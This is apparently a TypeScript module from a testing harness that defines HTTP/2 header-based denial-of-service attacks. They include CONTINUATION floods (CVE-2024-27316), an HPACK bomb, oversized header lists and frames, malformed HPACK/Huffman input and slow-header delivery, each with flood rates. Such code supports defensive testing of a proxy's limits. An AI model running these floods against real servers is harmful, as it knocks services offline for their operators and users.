import { continuation, frame, headers } from "../../support/frames.ts";
import { indexingBlock, literalBlock } from "../../support/literal-block.ts";
import { SHARED, STRICT } from "../clusters.ts";
import type { Attack, Tick } from "./attack.ts";
import type { AttackConnection } from "./attack-connection.ts";
import { firstRequest, literalRequest } from "./request-blocks.ts";
import { stampIds } from "./stamp-ids.ts";

/** A value that fills most of the 4,096 octets of the table. */
const BIG_VALUE = "v".repeat(3_600);
/** Index of the newest entry. */
const NEWEST = 0xbe;

/** CVE-2024-27316 and its family: a header section that never ends. */
function neverEnd(fragment: Buffer): Attack["play"] {
  return (connection) => {
    const id = connection.open();
    connection.acks = false;
    connection.greet({}, headers(id, literalRequest(SHARED), { more: true }));
    const one = continuation(id, fragment, { more: true });
    return (count) => connection.send(Buffer.concat(Array.from({ length: count }, () => one)), count);
  };
}

/** A request whose table entry others refer to, each reference an octet. */
function referTo(references: number): Attack["play"] {
  return (connection) => {
    const block = Buffer.concat([literalRequest(SHARED), indexingBlock("x-bomb", BIG_VALUE)]);
    connection.greet({}, headers(connection.open(), block, { end: true }));
    const bomb = Buffer.concat([literalRequest(SHARED), Buffer.alloc(references, NEWEST)]);
    const unit = headers(1, bomb, { end: true });
    return (count) => {
      const ids = Array.from({ length: count }, () => connection.open());
      connection.send(stampIds(unit, ids), count);
    };
  };
}

/** A header list of so many octets by RFC 9113 §6.5.2, as HEADERS and CONTINUATIONs. */
function largeRequest(id: number, authority: string, listOctets: number): Buffer[] {
  const fields: Record<string, string> = {};
  for (let i = 0; i * 1_000 < listOctets; i++) fields[`x-large-${i}`] = "v".repeat(960);
  const block = literalRequest(authority, fields);
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += 16_384) {
    const part = block.subarray(at, at + 16_384);
    const more = at + 16_384 < block.length;
    frames.push(at === 0 ? headers(id, part, { end: true, more }) : continuation(id, part, { more }));
  }
  return frames;
}

function large(authority: string, listOctets: number): Attack["play"] {
  return (connection): Tick => {
    connection.greet();
    const frames = largeRequest(1, authority, listOctets);
    const unit = Buffer.concat(frames);
    return (count) => {
      const ids = Array.from({ length: count }, () => connection.open());
      connection.send(stampIds(unit, ids), count * frames.length);
    };
  };
}

/** Says something the decoder cannot read, and comes again. */
function invalid(block: Buffer): Attack["play"] {
  return (connection) => {
    connection.greet({}, headers(connection.open(), block, { end: true }));
    return undefined;
  };
}

/** One octet of a header section at a time. */
function slowly(connection: AttackConnection): Tick {
  connection.acks = false;
  const whole = headers(
    connection.open(),
    Buffer.concat([firstRequest(SHARED), literalBlock({ a: BIG_VALUE })]),
  );
  connection.greet();
  let at = 0;
  return () => {
    if (at < whole.length) connection.send(whole.subarray(at, ++at), 1);
  };
}

const FLOOD = { framesPerSecond: 20_000, connections: 1 } as const;
const RECONNECTING = { framesPerSecond: 0, connections: 4, connectsPerSecond: 100 } as const;

export const HEADER_ATTACKS = {
  "continuation-flood": { ...FLOOD, play: neverEnd(literalBlock({ "x-a": "0123456789abcdef" })) },
  "continuation-flood, empty": { ...FLOOD, play: neverEnd(Buffer.alloc(0)) },
  "continuation-flood, full": {
    ...FLOOD,
    framesPerSecond: 1_000,
    play: neverEnd(Buffer.alloc(16_384, 0x82)),
  },
  "hpack-bomb": { ...FLOOD, framesPerSecond: 200, play: referTo(16_000) },
  "hpack-bomb, below the limit": { ...FLOOD, framesPerSecond: 500, play: referTo(8) },
  "header-list-above-limit": { ...FLOOD, framesPerSecond: 100, play: large(SHARED, 40_000) },
  /** Below the proxy's limit, far above the endpoint's. */
  "header-list-above-endpoint's": { ...FLOOD, framesPerSecond: 100, play: large(STRICT, 30_000) },
  "invalid-hpack": { ...RECONNECTING, play: invalid(Buffer.of(0x80)) },
  // Seven octets of ones: the code for the end of the string, which may not be coded.
  "invalid-huffman": { ...RECONNECTING, play: invalid(Buffer.of(0, 0x84, 0xff, 0xff, 0xff, 0xff, 1, 0x61)) },
  "frame-above-limit": {
    ...RECONNECTING,
    play: (connection) => {
      const head = frame("DATA", 0, 1, Buffer.alloc(0));
      head.writeUIntBE(2 ** 24 - 1, 0, 3);
      connection.greet({}, head);
      return undefined;
    },
  },
  "slow-headers": { framesPerSecond: 200, connections: 200, connectsPerSecond: 1_000, play: slowly },
} as const satisfies Record<string, Attack>;
